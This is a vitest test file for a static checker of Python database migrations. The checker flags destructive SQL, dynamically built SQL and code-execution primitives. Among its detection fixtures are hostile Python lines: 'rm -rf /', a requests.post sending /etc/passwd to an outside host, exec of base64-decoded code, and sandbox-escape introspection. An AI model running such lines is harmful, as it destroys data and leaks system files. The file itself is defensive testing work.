// Python migrations: parsing (never running), SQL recovered from strings with exact positions,
// dynamic SQL, execution primitives (with the usual evasions), Django operations.
import { describe, expect, it } from 'vitest';
import { extract } from '../src/extract/index.js';
import type { PythonFacts } from '../src/python/facts.js';
import { decodeLiterals } from '../src/python/source.js';
import { neutralizeBinds } from '../src/python/analyzer.js';
import type { Finding } from '../src/types.js';
import { check } from './helpers.js';

const ALEMBIC = 'migrations/versions/1a2b3c4d_x.py';
const HEAD = "from alembic import op\nimport sqlalchemy as sa\n\nrevision = '1a2b3c4d'\ndown_revision = '0a0b0c0d'\n";
const mig = (body: string) => `${HEAD}\n\ndef upgrade():\n${body}\n\ndef downgrade():\n    op.drop_table("zz")\n`;

async function run(src: string, path = ALEMBIC) {
  return (await check(src, { path })).findings;
}
const ids = (fs: Finding[]) => [...new Set(fs.map((f) => f.ruleId))].sort();
const of = (fs: Finding[], id: string) => fs.filter((f) => f.ruleId === id);
const facts = (src: string, path = ALEMBIC) => extract({ path, content: src }).facts.python as PythonFacts;
const units = (src: string, path = ALEMBIC) => extract({ path, content: src }).units;
/** 1-based line of the first line containing `needle`. */
const lineOf = (src: string, needle: string) => src.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('parsing', () => {
  it('a Python syntax error is a gating parse finding at its line', async () => {
    const src = HEAD + '\ndef upgrade(:\n    op.drop_table("x")\n';
    const fs = await run(src);
    expect(ids(fs)).toEqual(['parse-error']);
    expect(fs[0].gating).toBe(true);
    expect(fs[0].line).toBe(lineOf(src, 'def upgrade('));
    expect(fs[0].message).toMatch(/Python syntax error/);
  });

  it('an indentation error is a syntax error too', async () => {
    const fs = await run(HEAD + 'def upgrade():\nop.drop_table("x")\n');
    expect(ids(fs)).toContain('parse-error');
  });

  it('a byte-order mark does not break parsing', async () => {
    const bytes = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(mig('    op.drop_table("users")'))]);
    const r = await check(bytes, { path: ALEMBIC });
    expect(ids(r.findings)).toContain('drop-table');
    expect(ids(r.findings)).not.toContain('parse-error');
  });

  it('a file nested too deeply to parse fails closed', async () => {
    const fs = await run(`${HEAD}x = ${'('.repeat(5000)}1${')'.repeat(5000)}\n`);
    expect(ids(fs)).toEqual(['parse-error']);
    expect(fs[0].gating).toBe(true);
  });

  it('the code is never executed', async () => {
    const src = "import os\nos.environ['MG_TEST_RAN'] = '1'\nraise SystemExit(3)\n";
    await run(src, 'migrations/versions/x.py');
    expect(process.env.MG_TEST_RAN).toBeUndefined();
  });
});

describe('string literals', () => {
  it('decodes escapes, raw strings, triple quotes and implicit concatenation with positions', () => {
    const text = 'x = ("a\\tb" r"\\d" \'\'\'q\nr\'\'\' "\\x41\\u0042\\101")';
    const start = text.indexOf('(') + 1;
    const d = decodeLiterals(text, start, text.length - 1)!;
    expect(d.text).toBe('a\tb\\dq\nrABA');
    expect(d.src.length).toBe(d.text.length);
    expect(text[d.src[d.text.indexOf('q')]]).toBe('q');
    expect(text.slice(d.src[d.text.indexOf('A')], d.src[d.text.indexOf('A')] + 4)).toBe('\\x41');
  });

  it('bind parameters are replaced by same-length placeholders', () => {
    const sql = "UPDATE t SET a = :tags, b = '10:30', c = x::int WHERE id = %(id)s AND z = %s AND q := 1";
    const out = neutralizeBinds(sql, true);
    expect(out.length).toBe(sql.length);
    expect(out).toContain('$1   ,');
    expect(out).toContain("'10:30'");
    expect(out).toContain('x::int');
    expect(out).toContain(':=');
    expect(out).not.toMatch(/%\(id\)s|%s/);
  });

  it('a parameter after IN or VALUES is the parenthesized list the driver makes of it (same length)', () => {
    const cases: Array<[string, boolean, string]> = [
      // SQLAlchemy text() given a tuple through psycopg2, or an expanding bindparam: IN (…)
      ['DELETE FROM ruletarget WHERE id IN :target_ids', true, 'IN ($1)'],
      ['DELETE FROM t WHERE id NOT IN %(ids)s', true, 'NOT IN ($1)'],
      // psycopg2's `IN %s` with a tuple: too short for ($1), the constant list
      ['DELETE FROM t WHERE id IN %s', true, 'IN(1)'],
      ['DELETE FROM t WHERE id in %s', false, 'in(?)'],
      // psycopg2.extras.execute_values
      ['INSERT INTO t (a, b) VALUES %s', true, 'VALUES(1)'],
      ['SELECT 1 WHERE a IN\n  :ids', true, 'IN\n  ($1)'],
    ];
    for (const [sql, pg, want] of cases) {
      const out = neutralizeBinds(sql, pg);
      expect(out.length).toBe(sql.length);
      expect(out).toContain(want);
    }
    // Not a parameter after IN: unchanged; `IN:x` is no bind at all (SQLAlchemy's own pattern).
    expect(neutralizeBinds('SELECT 1 WHERE a IN (:ids) AND b = ANY(:bs)', true)).toBe('SELECT 1 WHERE a IN ($1  ) AND b = ANY($1 )');
    expect(neutralizeBinds('SELECT 1 WHERE a IN:x', true)).toBe('SELECT 1 WHERE a IN:x');
  });

  it('`IN :ids` in a data migration is read, not a parse error; what it does is still judged', async () => {
    const fs = await run(
      mig(
        '    bind = op.get_bind()\n' +
          '    bind.execute(sa.text("DELETE FROM ruletarget WHERE id IN :target_ids"), {"target_ids": (1, 2)})\n' +
          '    bind.execute(sa.text("UPDATE users SET email = NULL WHERE id IN :ids OR true"), {"ids": (1, 2)})',
      ),
    );
    expect(ids(fs)).not.toContain('parse-error');
    expect(of(fs, 'update-without-where')).toHaveLength(1);
  });
});

describe('SQL passed to execute', () => {
  it("SQL run through Python's sqlite3 module is read as SQLite (connect(), cursor(), an annotated parameter, executescript)", async () => {
    const p = 'store/migrations/m0001_v1_to_v2.py';
    const viaConnect = 'import sqlite3\n\ndef migrate(path):\n    conn = sqlite3.connect(path)\n    cur = conn.cursor()\n    conn.execute("BEGIN IMMEDIATE")\n    cur.execute("DROP TABLE chunks")\n';
    let fs = await run(viaConnect, p);
    expect(ids(fs)).toEqual(['drop-table']);
    expect(fs[0].message).toContain('runs on SQLite');
    const annotated = 'import sqlite3\n\ndef migrate(dst: sqlite3.Connection) -> None:\n    dst.execute("BEGIN IMMEDIATE")\n    dst.execute("DROP TABLE chunks")\n';
    expect(ids(await run(annotated, p))).toEqual(['drop-table']);
    expect(ids(await run('def migrate(conn):\n    conn.executescript("BEGIN IMMEDIATE; DROP TABLE chunks;")\n', p))).toEqual(['drop-table']);
    // A connection of unknown kind: read in the file's dialect (PostgreSQL), where BEGIN IMMEDIATE is no SQL.
    fs = await run('import sqlite3\n\ndef migrate(conn):\n    conn.execute("BEGIN IMMEDIATE")\n', p);
    expect(ids(fs)).toEqual(['parse-error']);
    expect(ids(await run('import sqlite3\n\ndef migrate(conn: "Connection"):\n    conn.execute("BEGIN IMMEDIATE")\n', p))).toEqual(['parse-error']);
    // In an Alembic migration the framework calls with its own connection: an annotation or the
    // method's name is no proof (Python does not check them); a connection made there is.
    const alembic = (body: string) => mig(`    helper(op.get_bind())\n\n\ndef helper(conn: sqlite3.Connection):\n${body}`).replace('import sqlalchemy as sa', 'import sqlalchemy as sa\nimport sqlite3');
    expect(ids(await run(alembic('    conn.execute("BEGIN IMMEDIATE")')))).toContain('parse-error');
    expect(ids(await run(alembic('    conn.executescript("BEGIN IMMEDIATE")')))).toContain('parse-error');
    expect(ids(await run(alembic('    sqlite3.connect("x.db").execute("BEGIN IMMEDIATE")')))).not.toContain('parse-error');
  });

  it('op.execute("UPDATE … WHERE …") is parsed, not dynamic', async () => {
    const fs = await run(mig('    op.execute("UPDATE search_filter SET expression = \'[]\' WHERE expression is null")'));
    expect(ids(fs)).toEqual(['drop-table']); // only the downgrade's drop_table
    expect(fs[0].down).toBe(true);
  });

  it('maps statements inside a triple-quoted string to their exact file line and column', async () => {
    const src = mig('    op.execute("""\n        UPDATE t SET a = 1 WHERE b = 2;\n        DELETE FROM audit_log;\n    """)');
    const f = of(await run(src), 'delete-without-where');
    expect(f).toHaveLength(1);
    expect(f[0].line).toBe(lineOf(src, 'DELETE FROM audit_log'));
    expect(f[0].column).toBe(9);
    expect(f[0].snippet).toContain('DELETE FROM audit_log');
    expect(f[0].gating).toBe(true);
  });

  it.each([
    ['implicit concatenation', '    op.execute("DROP " "TABLE users")'],
    ['+ of literals', '    op.execute("DROP TABLE" + " users")'],
    ['module-level constant', '    op.execute(SQL)'],
    ['local variable', '    q = "DROP TABLE users"\n    op.execute(q)'],
    ['escapes', '    op.execute("\\x44ROP \\u0054ABLE users")'],
    ['raw string', '    op.execute(r"DROP TABLE users")'],
    ['f-string of constants', '    op.execute(f"DROP TABLE {TABLE}")'],
    ['sa.text', '    op.execute(sa.text("DROP TABLE users"))'],
    ['aliased text()', '    op.execute(sql_text("DROP TABLE users").bindparams(a=1))'],
    ['textwrap.dedent', '    op.execute(textwrap.dedent("""\n        DROP TABLE users\n    """))'],
    ['"".join', '    op.execute(" ".join(["DROP", "TABLE", "users"]))'],
    ['op.get_bind().execute', '    op.get_bind().execute("DROP TABLE users")'],
    ['bound connection', '    conn = op.get_bind()\n    conn.execute(sa.text("DROP TABLE users"))'],
    ['get_context().connection', '    c = op.get_context().connection\n    c.exec_driver_sql("DROP TABLE users")'],
    ['batch_op.execute', '    with op.batch_alter_table("t") as b:\n        b.execute("DROP TABLE users")'],
    ['an alias of op.execute', '    run = op.execute\n    run("DROP TABLE users")'],
    ['getattr(op, "execute")', '    getattr(op, "execute")("DROP TABLE users")'],
    ['an alias of conn.execute', '    ex = op.get_bind().execute\n    ex("DROP TABLE users")'],
    ['getattr(op, "drop_table")', '    getattr(op, "drop_" + "table")("users")'],
  ])('recovers SQL built by %s', async (_name, body) => {
    const src = `${HEAD}import textwrap\nfrom sqlalchemy import text as sql_text\nSQL = "DROP TABLE users"\nTABLE = "users"\n\ndef upgrade():\n${body}\n`;
    const fs = await run(src);
    expect(ids(fs)).not.toContain('python-dynamic-sql');
    const drops = of(fs, 'drop-table');
    expect(drops.length).toBeGreaterThanOrEqual(1);
    expect(drops[0].message).toMatch(/users/);
    expect(drops[0].gating).toBe(true);
  });

  it('SQLAlchemy :name and DB-API %(name)s parameters do not cause parse errors', async () => {
    const fs = await run(
      mig('    conn = op.get_bind()\n    conn.execute(sa.text("UPDATE d SET tags = :tags WHERE id = :id"), {"tags": 1, "id": 2})\n    conn.exec_driver_sql("UPDATE d SET a = %(a)s WHERE id = %s", {"a": 1})'),
    );
    expect(ids(fs)).toEqual(['drop-table']);
  });

  it.each([
    ['an f-string with a run-time value', '    for t in tables:\n        op.execute(f"DROP TABLE {t}")', /f-string/],
    ['%-formatting', '    op.execute("DROP TABLE %s" % name)', /%-formatting/],
    ['.format()', '    op.execute("DROP TABLE {}".format(name))', /\.format/],
    ['a loop variable over a computed list', '    for q in get_queries():\n        op.execute(q)', /loop variable over get_queries\(\)/],
    ['a function parameter', '    run(compute())\n\ndef run(sql):\n    op.execute(sql)', /parameter/],
    ['a parameter of a function called from elsewhere', '    pass\n\ndef run(sql):\n    op.execute(sql)', /parameter/],
    ['an imported value', '    op.execute(sql_expressions)', /imported from lib/],
    ['concatenation with a run-time value', '    op.execute("DROP TABLE " + name)', /name/],
    ['a call result', '    op.execute(build_sql())', /build_sql/],
    ['a file read at run time', '    op.execute(open("x.sql").read())', /open/],
  ])('flags SQL built from %s as dynamic', async (_n, body, why) => {
    const src = `${HEAD}from lib import sql_expressions\n\ndef upgrade():\n${body}\n`;
    const d = of(await run(src), 'python-dynamic-sql');
    expect(d).toHaveLength(1);
    expect(d[0].gating).toBe(true);
    expect(d[0].category).toBe('dynamic');
    expect(d[0].message).toMatch(why);
  });

  it.each([
    ['map', '    list(map(op.drop_table, ["users"]))'],
    ['functools.partial', '    functools.partial(op.drop_table, "users")()'],
    ['a dict of operations', '    {"x": op.drop_table}["x"]("users")'],
    ['__call__', '    op.drop_table.__call__("users")'],
    ['a list of operations', '    for f in [op.drop_table]:\n        f("users")'],
  ])('an Alembic operation passed on as a value (%s) is dynamic, never clean', async (_n, body) => {
    const src = `${HEAD}import functools\n\ndef upgrade():\n${body}\n`;
    const d = of(await run(src), 'python-dynamic-sql');
    expect(d.length).toBeGreaterThanOrEqual(1);
    expect(d[0].gating).toBe(true);
    expect(d[0].message).toContain('passes the Alembic operation drop_table on as a value');
  });
  it('an operation bound to a name and called through it, or called directly, is read, not dynamic', async () => {
    for (const body of ['    drop = op.drop_table\n    drop("users")', '    op.drop_table("users")', '    op.f("ix_users")\n    op.drop_table("users")']) {
      const fs = await run(`${HEAD}\ndef upgrade():\n${body}\n`);
      expect(ids(fs), body).not.toContain('python-dynamic-sql');
      expect(of(fs, 'drop-table')[0]?.gating, body).toBe(true);
    }
    // In downgrade(): reported, not gating.
    const down = of(await run(`${HEAD}\ndef upgrade():\n    pass\n\ndef downgrade():\n    list(map(op.drop_table, ["users"]))\n`), 'python-dynamic-sql');
    expect(down).toHaveLength(1);
    expect(down[0].gating).toBe(false);
  });

  it('an Alembic operation chosen at run time is dynamic', async () => {
    const d = of(await run(mig('    for name in OPS:\n        getattr(op, name)("users")')), 'python-dynamic-sql');
    expect(d).toHaveLength(1);
  });

  it('dynamic SQL in downgrade() is reported non-gating', async () => {
    const src = `${HEAD}\ndef upgrade():\n    pass\n\ndef downgrade():\n    op.execute(f"DROP TABLE {x}")\n`;
    const d = of(await run(src), 'python-dynamic-sql');
    expect(d).toHaveLength(1);
    expect(d[0].down).toBe(true);
    expect(d[0].gating).toBe(false);
  });

  it('a name assigned two different SQL strings: both are checked', async () => {
    const src = mig('    q = "UPDATE t SET a = 1 WHERE b = 1"\n    if x:\n        q = "DROP TABLE users"\n    op.execute(q)');
    const fs = await run(src);
    expect(of(fs, 'drop-table').some((f) => /users/.test(f.message))).toBe(true);
    expect(ids(fs)).not.toContain('python-dynamic-sql');
  });

  it('SQL inside `if dialect == "mysql"` is parsed as MySQL', async () => {
    const src = mig('    bind = op.get_bind()\n    if bind.dialect.name == "mysql":\n        op.execute("ALTER TABLE `t` MODIFY `c` DATETIME(6)")');
    const fs = await run(src);
    expect(ids(fs)).not.toContain('parse-error');
  });
});

describe('execution', () => {
  const py = (body: string) => `${HEAD}${body}\n\ndef upgrade():\n    pass\n\ndef downgrade():\n    pass\n`;
  it.each([
    ['os.system', 'import os\nos.system("rm -rf /")'],
    ['from os import system as s', 'from os import system as s\ndef f():\n    s("id")'],
    ['subprocess imported inside a function', 'def f():\n    import subprocess as sp\n    sp.check_output(["id"])'],
    ['exec(base64.b64decode(…))', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
    ['eval', 'eval(input())'],
    ['compile', 'c = compile("1", "x", "exec")'],
    ['__import__', '__import__("os").system("id")'],
    ['importlib', 'import importlib\nm = importlib.import_module("os")'],
    ['getattr on a module with a computed name', 'import os\ngetattr(os, "sys" + "tem")("id")'],
    ['getattr with a literal name', 'import os\ngetattr(os, "system")("id")'],
    ['an alias variable', 'import os\nrun = os.popen\nrun("id")'],
    ['requests', 'import requests\nrequests.post("https://x.example", data=open("/etc/passwd").read())'],
    ['urllib', 'from urllib.request import urlopen\nurlopen("https://x.example")'],
    ['http.client', 'import http.client\nhttp.client.HTTPSConnection("x.example")'],
    ['socket', 'import socket\nsocket.create_connection(("x", 1))'],
    ['writing a file', 'with open("/tmp/x", "w") as f:\n    f.write("x")'],
    ['pathlib write', 'from pathlib import Path\nPath("/tmp/x").write_text("x")'],
    ['shutil.rmtree', 'import shutil\nshutil.rmtree("/srv")'],
    ['pickle.loads', 'import pickle\npickle.loads(b"x")'],
    ['marshal.loads', 'import marshal\nmarshal.loads(b"x")'],
    ['yaml.load without SafeLoader', 'import yaml\nyaml.load("a: 1")'],
    ['star import of subprocess', 'from subprocess import *\nrun(["id"])'],
    ['an unused import of subprocess', 'import subprocess'],
    ['globals() lookup', 'globals()["__builtins__"]'],
    ['introspection escape', 'x = ().__class__.__base__.__subclasses__()'],
    ['asyncio subprocess', 'import asyncio\nasyncio.create_subprocess_shell("id")'],
    ['__builtins__.exec', '__builtins__.exec("print(1)")'],
    ['__builtins__["eval"]', '__builtins__["eval"]("1")'],
    ['sys.modules lookup', 'import sys\nsys.modules["os"].system("id")'],
    ['module __dict__ lookup', 'import os\nos.__dict__["system"]("id")'],
  ])('flags %s', async (_n, body) => {
    const fs = of(await run(py(body)), 'python-execution');
    expect(fs.length).toBeGreaterThanOrEqual(1);
    expect(fs.some((f) => f.gating)).toBe(true);
    expect(fs[0].category).toBe('execution');
  });

  it('reports the line of the call and resolves the alias in the message', async () => {
    const src = py('from os import system as s\n\ndef helper():\n    s("id")');
    const fs = of(await run(src), 'python-execution');
    expect(fs).toHaveLength(1);
    expect(fs[0].line).toBe(lineOf(src, 's("id")'));
    expect(fs[0].message).toMatch(/os\.system/);
  });

  it('flags execution in downgrade() as gating too', async () => {
    const src = `${HEAD}\ndef upgrade():\n    pass\n\ndef downgrade():\n    import os\n    os.system("id")\n`;
    const fs = of(await run(src), 'python-execution');
    expect(fs).toHaveLength(1);
    expect(fs[0].gating).toBe(true);
  });

  it('a base64 decode of data (not a literal) is a warning', async () => {
    const fs = of(await run(py('import base64\ndef f(row):\n    return base64.b64decode(row.value)')), 'python-execution');
    expect(fs).toHaveLength(1);
    expect(fs[0].severity).toBe('warning');
  });

  it.each([
    ['os.environ and os.path', 'import os\nurl = os.environ.get("DATABASE_URL")\np = os.path.join("a", "b")'],
    ['reading a file', 'with open("schema.sql") as f:\n    data = f.read()\nopen("x", "rb").read()'],
    ['json, re, datetime', 'import json, re, datetime\njson.loads("{}")\nre.compile("x")\ndatetime.datetime.now()'],
    ['sqlalchemy select/update', 'from sqlalchemy import select, update\ns = select()'],
    ['urllib.parse', 'from urllib.parse import quote\nquote("x")'],
    ['yaml.safe_load and SafeLoader', 'import yaml\nyaml.safe_load("a: 1")\nyaml.load("a: 1", Loader=yaml.SafeLoader)'],
    ['a local function named like a builtin', 'def compile_rules(x):\n    return x\ncompile_rules(1)'],
    ['an undefined bare name', 'select(1)'],
  ])('does not flag %s', async (_n, body) => {
    expect(of(await run(py(body)), 'python-execution')).toEqual([]);
  });

  it('env.py reading config is clean; env.py running a process is flagged', async () => {
    const env = `import os\nfrom logging.config import fileConfig\nfrom alembic import context\nfrom sqlalchemy import engine_from_config, pool\nconfig = context.config\nfileConfig(config.config_file_name)\nconfig.set_main_option("sqlalchemy.url", os.environ["DATABASE_URL"])\n\ndef run_migrations_online():\n    connectable = engine_from_config(config.get_section(config.config_ini_section), prefix="sqlalchemy.", poolclass=pool.NullPool)\n    with connectable.connect() as connection:\n        context.configure(connection=connection)\n        with context.begin_transaction():\n            context.run_migrations()\n\nrun_migrations_online()\n`;
    const r = await check(env, { path: 'migrations/env.py' });
    expect(r.files[0].kind).toBe('python');
    expect(r.findings).toEqual([]);
    const bad = await check(env + 'import subprocess\nsubprocess.run(["sh", "-c", "id"])\n', { path: 'migrations/env.py' });
    expect(ids(bad.findings)).toEqual(['python-execution']);
  });
});

describe('Django', () => {
  const PATH = 'blog/migrations/0007_change.py';
  const dj = (ops: string, pre = '') => `from django.db import migrations, models\n${pre}\n\nclass Migration(migrations.Migration):\n    dependencies = [("blog", "0006_x")]\n    operations = [\n${ops}\n    ]\n`;

  it('is classified as django and parsed', () => {
    const ex = extract({ path: PATH, content: dj('        migrations.DeleteModel(name="Post"),') });
    expect(ex.kind).toBe('django');
    expect(ex.units.map((u) => u.text)).toEqual(['DROP TABLE "blog_post"']);
  });

  it.each([
    ['DeleteModel', '        migrations.DeleteModel(name="Post"),', 'drop-table', /blog_post/],
    ['RemoveField', '        migrations.RemoveField(model_name="post", name="body"),', 'drop-column', /body/],
    ['RenameModel', '        migrations.RenameModel(old_name="Post", new_name="Article"),', 'rename-table', /blog_post/],
    ['RenameField', '        migrations.RenameField(model_name="post", old_name="body", new_name="text"),', 'rename-column', /body/],
    ['RunSQL', '        migrations.RunSQL("DROP TABLE legacy;", reverse_sql="CREATE TABLE legacy (id int);"),', 'drop-table', /legacy/],
    ['RunSQL list with params', '        migrations.RunSQL([("DELETE FROM blog_post WHERE id = %s", [1]), "TRUNCATE blog_tag"]),', 'truncate', /blog_tag/],
  ])('%s maps to the SQL rule', async (_n, op, rule, msg) => {
    const fs = await run(dj(op), PATH);
    const f = of(fs, rule).filter((x) => !x.down);
    expect(f.length).toBeGreaterThanOrEqual(1);
    expect(f[0].message).toMatch(msg);
    expect(f[0].gating).toBe(true);
  });

  it('RunSQL reverse_sql is a down migration (non-gating)', async () => {
    const fs = await run(dj('        migrations.RunSQL("CREATE TABLE t (id int);", reverse_sql="DROP TABLE t;"),'), PATH);
    const d = of(fs, 'drop-table');
    expect(d).toHaveLength(1);
    expect(d[0].down).toBe(true);
    expect(d[0].gating).toBe(false);
  });

  it('AlterField is a non-gating possible type change', async () => {
    const fs = await run(dj('        migrations.AlterField(model_name="post", name="title", field=models.CharField(max_length=300)),'), PATH);
    const f = of(fs, 'alter-column-type');
    expect(f).toHaveLength(1);
    expect(f[0].severity).toBe('warning');
    expect(f[0].gating).toBe(false);
    expect(f[0].message).toMatch(/blog_post\.title/);
  });

  it('RunPython is a warning; noop is not reported; its code is scanned', async () => {
    const pre = 'import os\n\ndef fwd(apps, schema_editor):\n    Post = apps.get_model("blog", "Post")\n    Post.objects.all().delete()\n\ndef back(apps, schema_editor):\n    os.system("id")\n';
    const fs = await run(dj('        migrations.RunPython(fwd, back),\n        migrations.RunPython(migrations.RunPython.noop),', pre), PATH);
    const rp = of(fs, 'django-run-python');
    expect(rp.map((f) => [f.severity, !!f.down])).toEqual([
      ['warning', false],
      ['warning', true],
    ]);
    expect(rp.every((f) => !f.gating)).toBe(true);
    const del = of(fs, 'delete-without-where');
    expect(del).toHaveLength(1);
    expect(del[0].message).toMatch(/blog_post/);
    expect(del[0].down).toBeFalsy();
    // code execution gates even in reverse code
    expect(of(fs, 'python-execution')[0].gating).toBe(true);
  });

  it('SeparateDatabaseAndState: state_operations run no SQL', async () => {
    const fs = await run(dj('        migrations.SeparateDatabaseAndState(state_operations=[migrations.DeleteModel(name="Post")], database_operations=[]),'), PATH);
    expect(fs).toEqual([]);
  });

  it('state_operations given by name (a class attribute, a module constant) run no SQL either, unless the list is used otherwise too', async () => {
    const cls = (extra: string, ops: string) =>
      `from django.db import migrations\n\nclass Migration(migrations.Migration):\n    dependencies = [("blog", "0006_x")]\n\n    state_operations = [\n        migrations.DeleteModel(name="Post"),\n    ]\n${extra}\n    operations = [\n${ops}\n    ]\n`;
    expect(await run(cls('', '        migrations.SeparateDatabaseAndState(state_operations=state_operations),'), PATH)).toEqual([]);
    expect(await run(cls('', '        migrations.RunSQL("SELECT 1", "SELECT 1", state_operations=state_operations),'), PATH)).toEqual([]);
    expect(await run(dj('        migrations.SeparateDatabaseAndState(state_operations=STATE, database_operations=[]),', 'STATE = (migrations.DeleteModel(name="Post"),)'), PATH)).toEqual([]);
    // The same list also run against the database, added to, or changed: its DeleteModel drops the table.
    const drops = async (src: string) => of(await run(src, PATH), 'drop-table').length;
    expect(await drops(cls('', '        migrations.SeparateDatabaseAndState(state_operations=state_operations, database_operations=state_operations),'))).toBe(1);
    expect(await drops(cls('', '        migrations.SeparateDatabaseAndState(state_operations=state_operations),\n        *state_operations,'))).toBe(1);
    expect(await drops(cls('    state_operations += [migrations.DeleteModel(name="Tag")]\n', '        migrations.SeparateDatabaseAndState(state_operations=state_operations),'))).toBe(2);
    expect(await drops(cls('    ops = state_operations\n', '        migrations.SeparateDatabaseAndState(state_operations=state_operations),\n        *ops,'))).toBe(1);
    expect(await drops(dj('        migrations.SeparateDatabaseAndState(state_operations=STATE),\n        *globals()["STATE"],', 'STATE = [migrations.DeleteModel(name="Post")]'))).toBe(1);
  });

  it('a RunSQL string built at run time is dynamic', async () => {
    const fs = await run(dj('        migrations.RunSQL("DROP TABLE %s" % TABLE),', 'TABLE = input()'), PATH);
    // and, without reverse_sql, one Django cannot roll back
    expect(ids(fs)).toEqual(['irreversible', 'python-dynamic-sql']);
  });

  it('scoped ORM writes are not flagged', async () => {
    const pre = 'def fwd(apps, se):\n    apps.get_model("blog", "Post").objects.filter(draft=True).delete()\n';
    const fs = await run(dj('        migrations.RunPython(fwd),', pre), PATH);
    expect(ids(fs)).toEqual(['django-run-python', 'irreversible']); // irreversible: no reverse_code
  });
});

describe('facts and counts', () => {
  it('counts op calls, recovered SQL and dynamic SQL', () => {
    const f = facts(mig('    op.drop_column("t", "c")\n    op.execute("UPDATE t SET a = 1 WHERE b = 1")\n    op.execute(f"x {y}")'));
    expect(f.framework).toBe('alembic');
    expect(f.stats.ops).toMatchObject({ drop_column: 1, execute: 2, drop_table: 1 });
    expect(f.stats.sqlStrings).toBe(1);
    expect(f.stats.dynamic).toBe(1);
    expect(f.stats.upUnits).toBe(2);
    expect(f.stats.downUnits).toBe(1);
  });

  it('unit positions map into the Python file', () => {
    const src = mig('    op.execute(\n        "UPDATE t "\n        "SET a = 1 WHERE b = 1"\n    )');
    const u = units(src).find((x) => x.text.startsWith('UPDATE'))!;
    expect(u.pos(0).line).toBe(lineOf(src, '"UPDATE t "'));
    expect(u.pos(u.text.indexOf('SET')).line).toBe(lineOf(src, '"SET a = 1'));
    expect(u.pos(u.text.indexOf('SET')).column).toBe(10);
  });
});

describe('data loss outside op.* and SQL strings', () => {
  it('sa.Table(…).drop(bind), metadata.drop_all and op.invoke(DropTableOp) are drops; Enum.drop is not a table drop', async () => {
    const src = mig(
      '    bind = op.get_bind()\n    users = sa.Table("users", sa.MetaData(), sa.Column("id", sa.Integer))\n    users.drop(bind)\n' +
        '    meta = sa.MetaData()\n    meta.drop_all(bind)\n    from alembic.operations import ops\n    op.invoke(ops.DropTableOp("accounts"))\n' +
        '    op.invoke(ops.DropColumnOp("accounts", "email"))\n    sa.Enum(name="status").drop(bind, checkfirst=True)\n',
    );
    const fs = (await run(src)).filter((f) => !f.down);
    const drops = of(fs, 'drop-table').map((f) => f.message);
    expect(drops.some((m) => m.includes('users'))).toBe(true);
    expect(drops.some((m) => m.includes('every table of meta'))).toBe(true);
    expect(drops.some((m) => m.includes('accounts'))).toBe(true);
    expect(drops.some((m) => m.includes('status'))).toBe(false);
    expect(of(fs, 'drop-column')[0].message).toContain('accounts.email');
    expect(of(fs, 'drop-table').every((f) => f.gating)).toBe(true);
  });
  it('op.invoke of an unknown operation object is not verified', async () => {
    const fs = await run(mig('    op.invoke(make_op())\n'));
    expect(of(fs, 'parse-error')[0].message).toContain('op.invoke');
  });
  it('Django call_command from a migration gates and names the command', async () => {
    const src = 'from django.db import migrations\nfrom django.core.management import call_command\n\ndef f(apps, se):\n    call_command("flush", interactive=False)\n\nclass Migration(migrations.Migration):\n    operations = [migrations.RunPython(f)]\n';
    const fs = of(await run(src, 'app/migrations/0002_x.py'), 'python-execution');
    expect(fs).toHaveLength(1);
    expect(fs[0].message).toContain('deletes every row of every table');
    expect(fs[0].gating).toBe(true);
  });
  it('RunSQL / execute with literal parameters are judged with the values bound', async () => {
    const django = (ops: string) => `from django.db import migrations\n\nclass Migration(migrations.Migration):\n    operations = [\n${ops}\n    ]\n`;
    const p = 'app/migrations/0003_x.py';
    expect(of(await run(django('        migrations.RunSQL([("DELETE FROM app_user WHERE %s = %s", [1, 1])]),'), p), 'delete-without-where')).toHaveLength(1);
    expect(of(await run(django('        migrations.RunSQL([("DELETE FROM app_user WHERE %s = %s", [1, 2])]),'), p), 'delete-without-where')).toHaveLength(0);
    expect(of(await run(django('        migrations.RunSQL([("DELETE FROM app_user WHERE id = %s", [7])]),'), p), 'delete-without-where')).toHaveLength(0);
    // Placeholders with values only known at run time: one value each for the whole statement, so the
    // condition names no column and holds for every row or for none.
    expect(of(await run(django('        migrations.RunSQL("DELETE FROM app_user WHERE %s = %s"),'), p), 'delete-without-where')).toHaveLength(1);
    expect(of(await run(django('        migrations.RunSQL("DELETE FROM app_user WHERE id = %s"),'), p), 'delete-without-where')).toHaveLength(0);
    expect(of(await run(mig('    op.get_bind().execute("UPDATE users SET a = 1 WHERE %(x)s = %(y)s", {"x": "a", "y": "a"})\n')), 'update-without-where')).toHaveLength(1);
    // A tuple is bound as the parenthesized list psycopg2 sends: the statement is read with its values.
    const inList = await run(django('        migrations.RunSQL([("DELETE FROM app_user WHERE 2 IN %s", [(1, 2)])]),'), p);
    expect(ids(inList)).not.toContain('parse-error');
    expect(of(inList, 'delete-without-where')).toHaveLength(1);
    expect(of(await run(django('        migrations.RunSQL([("DELETE FROM app_user WHERE 3 IN %s", [(1, 2)])]),'), p), 'delete-without-where')).toHaveLength(0);
  });
});
